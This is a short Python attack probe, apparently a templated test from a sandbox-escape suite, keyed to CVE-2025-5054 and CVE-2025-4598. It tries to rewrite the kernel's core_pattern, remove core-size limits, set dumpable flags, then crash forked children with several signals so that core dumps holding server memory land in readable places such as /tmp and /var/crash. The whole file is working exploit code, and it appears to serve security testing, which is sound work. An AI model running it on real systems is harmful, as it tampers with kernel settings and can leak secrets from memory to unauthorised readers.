"""Has children crash in many ways, so that a core file, or whoever the kernel gives it to, holds the server's memory."""

SOURCE = "CVE-2025-5054, CVE-2025-4598: what a crash leaves is read by who should not"
SUCCESS = "a file that stays, or a canary in the outputs"

# %%
import ctypes
import glob
import os
import resource
import signal

libc = ctypes.CDLL(None, use_errno=True)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/core_uses_pid", "/proc/sys/fs/suid_dumpable"):
    try:
        print(path, open(path).read())
        open(path, "w").write("/tmp/@TOKEN@-@NAME@-%p")
        print("SUCCEEDED: the pattern is mine")
    except OSError as error:
        print(error)
try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    print("SUCCEEDED: no limit")
except (OSError, ValueError) as error:
    print(error, resource.getrlimit(resource.RLIMIT_CORE))
print("dumpable", libc.prctl(3), libc.prctl(4, 1), libc.prctl(4, 2), libc.prctl(3))
try:
    open("/proc/self/coredump_filter", "w").write("0xff")
except OSError as error:
    print(error)
for number in (signal.SIGSEGV, signal.SIGABRT, signal.SIGQUIT, signal.SIGBUS, signal.SIGXCPU, signal.SIGSYS):
    child = os.fork()
    if child == 0:
        signal.signal(number, signal.SIG_DFL)
        os.chdir("/tmp")
        os.kill(os.getpid(), number)
    _, status = os.waitpid(child, 0)
    print(number.name, "core" if os.WCOREDUMP(status) else "no core")
for path in (
    glob.glob("/tmp/*core*") + glob.glob("core*") + glob.glob("/var/crash/*") + glob.glob("/var/lib/systemd/coredump/*")
):
    print(path, os.path.getsize(path))
print("attempted")
